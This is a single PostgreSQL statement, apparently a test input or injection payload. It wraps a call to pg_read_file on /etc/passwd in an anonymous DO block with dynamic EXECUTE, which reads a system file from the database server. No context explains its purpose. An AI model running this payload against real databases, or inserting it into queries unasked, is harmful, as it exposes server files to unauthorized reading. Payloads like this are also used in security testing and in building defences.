DO $body$ BEGIN EXECUTE 'SELECT pg_read_file(''/etc/passwd'')'; END $body$
